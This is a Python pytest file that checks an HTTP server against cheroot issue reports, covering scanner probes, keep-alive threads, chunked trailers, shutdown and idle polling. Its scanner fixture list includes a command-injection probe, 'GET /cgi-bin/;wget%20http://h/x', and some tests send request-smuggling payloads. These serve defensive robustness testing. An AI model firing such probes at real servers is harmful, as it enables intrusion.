"""What users of cheroot complain about, each by the number of its issue there."""

from __future__ import annotations

import random
import threading
from collections.abc import Callable
from pathlib import Path
from typing import Any

import pytest

from tests import inside
from tests.client import PATIENCE, Client, chunked, request, several
from tests.console import HELLO, tpserver
from tests.fuzz.mutation import garbage
from tests.gates import Gates
from tests.running import Start
from tests.waiting import until_left

THREADS = 4

SCANNERS = [
    b"\x16\x03\x01\x02\x00\x01\x00\x01\xfc\x03\x03" + bytes(32),  # TLS on a plain port
    b"\x80\x2e\x01\x00\x02\x00\x15\x00\x00\x00\x10",  # SSL 2
    b"\x03\x00\x00\x13\x0e\xe0\x00\x00\x00\x00\x00\x01\x00\x08\x00\x03\x00\x00\x00",  # RDP
    b"SSH-2.0-Go\r\n",
    b"\0" * 100,
    b"GET",
    b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n",
    b"\x00\x0e8\xcd\xcc\xf4\xcf",
    b"*1\r\n$4\r\nINFO\r\n",  # Redis
    b"GET /cgi-bin/;wget%20http://h/x HTTP/1.0\r\n\r\n",
]


def test_358_and_365_threads_survive_scanners(start: Start, monkeypatch: pytest.MonkeyPatch) -> None:
    """There a worker thread died of each TLS hello on a plain port, until none was left."""
    barrier = threading.Barrier(THREADS)

    def app(environ: dict[str, Any], start_response: Callable[..., Any]) -> Any:
        if environ["PATH_INFO"] == "/all":
            barrier.wait(PATIENCE)
        start_response("200 OK", [])
        return [b"alive"]

    running = start(app, threads=THREADS)
    chance = random.Random(1)
    for data in SCANNERS * 3 + [garbage(chance) for _ in range(50)]:
        scanner = Client(running)
        scanner.send(data)
        if chance.randrange(2):
            scanner.reset()
        else:
            scanner.close()
    with several(running, THREADS) as clients:  # all at once, which takes every thread that there ever was
        for client in clients:
            client.send(request("/all"))
        for client in clients:
            assert client.response().content == b"alive"


def test_91_and_305_keep_alive_connections_hold_no_threads(start: Start) -> None:
    running = start(Gates(), threads=1)
    with several(running, 50) as idle:
        for client in idle:
            assert client.ask("/").status == 200
        with Client(running) as other:
            assert other.ask("/other").content == b"/other "
        for client in idle:
            assert client.ask("/again").content == b"/again "


def test_69_nothing_of_a_chunked_body_is_left_on_the_wire(start: Start) -> None:
    """There the trailers were read as the next request."""
    running = start(Gates())
    with Client(running) as client:
        for number in range(3):
            smuggled = f"GET: /smuggled{number} HTTP/1.1\r\nX-Trailer: y\r\n"
            client.send(chunked("/unread", b"some", b"content", trailers=smuggled))
            assert client.response().status == 200
            assert client.ask("/next").content == b"/next "
    until_left(running, 0)


def test_69_nor_of_a_body_that_the_application_did_not_read(start: Start) -> None:
    seen = []

    def app(environ: dict[str, Any], start_response: Callable[..., Any]) -> Any:
        seen.append(environ["PATH_INFO"])
        start_response("200 OK", [])
        return [b"unread"]

    with Client(start(app)) as client:
        body = request("/smuggled") * 3000
        assert client.ask("/first", method="POST", content=body).status == 200
        assert client.ask("/second").status == 200
    assert seen == ["/first", "/second"]


def test_328_one_ctrl_c_is_enough(tmp_path: Path) -> None:
    (tmp_path / "hello.py").write_text(HELLO)
    with tpserver("hello:app", cwd=tmp_path) as console, Client(console):  # an idle connection does not keep it
        assert console.get("/") == "hello /"
        ended = console.stop()
    assert ended.status == 0
    assert "Traceback" not in ended.stderr


def test_378_an_idle_server_does_not_poll_all_the_time(start: Start, monkeypatch: Any) -> None:
    """It sleeps until something comes: its poll has no time-out but that of the next look at the deadlines."""
    kind = type(inside.new_poller())
    timeouts: list[float] = []
    slept = threading.Event()
    really = kind.poll

    def poll(poller: Any, timeout: float) -> Any:
        timeouts.append(timeout)
        events = really(poller, timeout)
        if not events and timeout > 0.5:
            slept.set()
        return events

    monkeypatch.setattr(kind, "poll", poll)
    running = start(Gates())
    with Client(running) as client:
        assert client.ask("/").status == 200
        timeouts.clear()
        slept.clear()
        assert slept.wait(PATIENCE)
    assert len(timeouts) < 20
